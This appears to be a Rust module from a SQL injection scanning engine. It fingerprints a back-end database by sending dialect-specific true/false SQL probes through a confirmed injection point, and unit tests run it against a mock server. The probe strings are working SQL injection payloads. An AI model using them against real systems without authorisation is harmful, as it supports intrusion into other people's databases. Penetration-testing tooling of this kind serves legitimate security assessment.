use crate::core::error::{EngineError, Result};
use crate::http::{Requester, Target};
use crate::oracle::ProbeOracle;
use crate::payloads::{scoped_randnum, Dbms, Vector};
use crate::tamper::{TamperChain, TamperContext};

/// One true/false probe built from dialect-unique built-ins.
#[derive(Debug, Clone, Copy)]
struct ProbePair {
    truthy: &'static str,
    falsy: &'static str,
    confidence: f64,
}

/// heuristic pair first (cheap, 0.80-0.85), then a different dialect-unique
/// confirmation pair (>= 0.95). Both must agree before a DBMS is reported.
fn heuristic_pair(dbms: Dbms) -> ProbePair {
    match dbms {
        Dbms::MySql => ProbePair {
            truthy: "(SELECT QUARTER(NULL)) IS NULL",
            falsy: "(SELECT 0x47776a68)='qSBB'",
            confidence: 0.85,
        },
        Dbms::PostgreSql => ProbePair {
            truthy: "CONVERT_TO((CHR(115)||CHR(120)||CHR(115)),QUOTE_IDENT(NULL)) IS NULL",
            falsy: "(SELECT 'x')='y'",
            confidence: 0.82,
        },
        Dbms::MsSql => ProbePair {
            truthy: "QUOTENAME(1) IS NOT NULL",
            falsy: "(SELECT 'A')='B'",
            confidence: 0.83,
        },
        Dbms::Oracle => ProbePair {
            truthy: "(SELECT INSTR2(NULL,NULL) FROM DUAL) IS NULL",
            falsy: "(SELECT CHR(112)||CHR(116) FROM DUAL)='SO'",
            confidence: 0.84,
        },
    }
}

fn confirmation_pair(dbms: Dbms) -> ProbePair {
    match dbms {
        Dbms::MySql => ProbePair {
            truthy: "QUARTER(NULL) IS NULL",
            falsy: "1=2",
            confidence: 0.98,
        },
        Dbms::PostgreSql => ProbePair {
            truthy: "COALESCE(8009,NULL)=8009",
            falsy: "1=2",
            confidence: 0.97,
        },
        Dbms::MsSql => ProbePair {
            truthy: "UNICODE(NCHAR(65))=65",
            falsy: "1=2",
            confidence: 0.96,
        },
        Dbms::Oracle => ProbePair {
            truthy: "NVL(RAWTOHEX(5984),5984)=RAWTOHEX(5984)",
            falsy: "1=2",
            confidence: 0.96,
        },
    }
}

#[derive(Debug, Clone)]
pub struct FingerprintResult {
    pub dbms: Dbms,
    pub confidence: f64,
}

/// Classifies the back end behind a confirmed vector by sending dialect-only
/// boolean pairs through the established oracle.
pub struct Fingerprinter<'a> {
    requester: &'a Requester,
    target: &'a Target,
    vector: &'a Vector,
    oracle: &'a ProbeOracle,
    chain: &'a TamperChain,
}

impl<'a> Fingerprinter<'a> {
    pub fn new(
        requester: &'a Requester,
        target: &'a Target,
        vector: &'a Vector,
        oracle: &'a ProbeOracle,
        chain: &'a TamperChain,
    ) -> Self {
        Self { requester, target, vector, oracle, chain }
    }

    async fn probe(&self, expression: &str) -> Result<bool> {
        let randnum = scoped_randnum(&format!(
            "{}|{}",
            self.target.endpoint_path(),
            self.target.parameter.key
        ));
        let sleeptime = self.requester.config().timesec as u64;
        let rendered = self.vector.render(expression, sleeptime, randnum);
        let ctx = TamperContext { dbms: None, technique: Some(self.vector.kind) };
        let payload = self.chain.apply(&rendered, &ctx).payload;
        let response = self.requester.send(self.target, Some(&payload)).await?;
        Ok(self.oracle.truth(&response))
    }

    async fn check_pair(&self, pair: ProbePair) -> Result<bool> {
        let truthy = self.probe(pair.truthy).await?;
        if !truthy {
            return Ok(false);
        }
        let falsy = self.probe(pair.falsy).await?;
        Ok(!falsy)
    }

    /// Try each candidate in probability order; first confirmed wins.
    pub async fn run(&self) -> Result<FingerprintResult> {
        for dbms in Dbms::ALL {
            let heuristic = heuristic_pair(dbms);
            if !self.check_pair(heuristic).await? {
                continue;
            }
            tracing::info!("heuristic shows back-end DBMS could be '{}'", dbms);

            let confirmation = confirmation_pair(dbms);
            if self.check_pair(confirmation).await? {
                tracing::info!("back-end DBMS is '{}'", dbms);
                return Ok(FingerprintResult { dbms, confidence: confirmation.confidence });
            }
            tracing::warn!("{} heuristic was likely a false positive", dbms);
        }
        Err(EngineError::DbmsUnknown)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use async_trait::async_trait;
    use std::sync::Arc;

    use crate::core::config::{Metrics, ScanConfig};
    use crate::core::error::TransportError;
    use crate::http::{
        ParamLocation, Parameter, PreparedRequest, Requester, Response, Target, Transport,
    };
    use crate::oracle::Criteria;
    use crate::payloads::Technique;

    const TRUE_PAGE: &str = "<p>row found</p>";
    const FALSE_PAGE: &str = "<p>empty</p>";

    /// Answers true only for the exact conditions of the simulated dialect.
    struct DialectTransport {
        true_conditions: &'static [&'static str],
    }

    #[async_trait]
    impl Transport for DialectTransport {
        async fn send(
            &self,
            request: &PreparedRequest,
        ) -> std::result::Result<Response, TransportError> {
            let condition = request
                .url
                .split("id=1")
                .nth(1)
                .map(|v| urlencoding::decode(v).map(|c| c.into_owned()).unwrap_or_default())
                .unwrap_or_default();
            let condition = condition.trim_start_matches(" AND ");
            let body = if self.true_conditions.contains(&condition) {
                TRUE_PAGE
            } else {
                FALSE_PAGE
            };
            Ok(Response::new(200, "OK", vec![], body, 0.1, false))
        }
    }

    fn rig(
        true_conditions: &'static [&'static str],
    ) -> (Arc<Requester>, Target, Vector, ProbeOracle) {
        let config = Arc::new(ScanConfig { batch: true, ..Default::default() });
        let transport = Arc::new(DialectTransport { true_conditions });
        let requester =
            Arc::new(Requester::new(transport, config, Arc::new(Metrics::new())).unwrap());
        let param = Parameter::new("id", "1", ParamLocation::Get).unwrap();
        let target = Target::new("http://db.test/item.php?id=1", "GET", param).unwrap();
        let vector = Vector::new("", " AND [INFERENCE]", "", Technique::Boolean);
        let oracle = ProbeOracle::Boolean {
            base: Response::new(200, "OK", vec![], TRUE_PAGE, 0.1, false),
            false_sample: Response::new(200, "OK", vec![], FALSE_PAGE, 0.1, false),
            criteria: Criteria::default(),
        };
        (requester, target, vector, oracle)
    }

    #[tokio::test]
    async fn confirms_mysql_after_two_phases() {
        let (requester, target, vector, oracle) = rig(&[
            "(SELECT QUARTER(NULL)) IS NULL",
            "QUARTER(NULL) IS NULL",
        ]);
        let chain = TamperChain::empty();
        let result = Fingerprinter::new(&requester, &target, &vector, &oracle, &chain)
            .run()
            .await
            .unwrap();
        assert_eq!(result.dbms, Dbms::MySql);
        assert!(result.confidence >= 0.95);
    }

    #[tokio::test]
    async fn heuristic_without_confirmation_is_discarded() {
        // only the heuristic probe passes: the candidate must not be reported
        let (requester, target, vector, oracle) = rig(&["(SELECT QUARTER(NULL)) IS NULL"]);
        let chain = TamperChain::empty();
        let err = Fingerprinter::new(&requester, &target, &vector, &oracle, &chain)
            .run()
            .await
            .unwrap_err();
        assert!(matches!(err, EngineError::DbmsUnknown));
    }

    #[tokio::test]
    async fn later_candidate_wins_when_earlier_ones_fail() {
        let (requester, target, vector, oracle) = rig(&[
            "(SELECT INSTR2(NULL,NULL) FROM DUAL) IS NULL",
            "NVL(RAWTOHEX(5984),5984)=RAWTOHEX(5984)",
        ]);
        let chain = TamperChain::empty();
        let result = Fingerprinter::new(&requester, &target, &vector, &oracle, &chain)
            .run()
            .await
            .unwrap();
        assert_eq!(result.dbms, Dbms::Oracle);
    }

    #[tokio::test]
    async fn all_candidates_failing_reports_unknown() {
        let (requester, target, vector, oracle) = rig(&[]);
        let chain = TamperChain::empty();
        let err = Fingerprinter::new(&requester, &target, &vector, &oracle, &chain)
            .run()
            .await
            .unwrap_err();
        assert!(matches!(err, EngineError::DbmsUnknown));
    }

    #[tokio::test]
    async fn check_pair_demands_false_probe_failure() {
        // an endpoint that answers true to everything is no oracle at all
        let (requester, target, vector, oracle) = rig(&[
            "(SELECT QUARTER(NULL)) IS NULL",
            "(SELECT 0x47776a68)='qSBB'",
        ]);
        let chain = TamperChain::empty();
        let fp = Fingerprinter::new(&requester, &target, &vector, &oracle, &chain);
        assert!(!fp.check_pair(heuristic_pair(Dbms::MySql)).await.unwrap());
    }
}
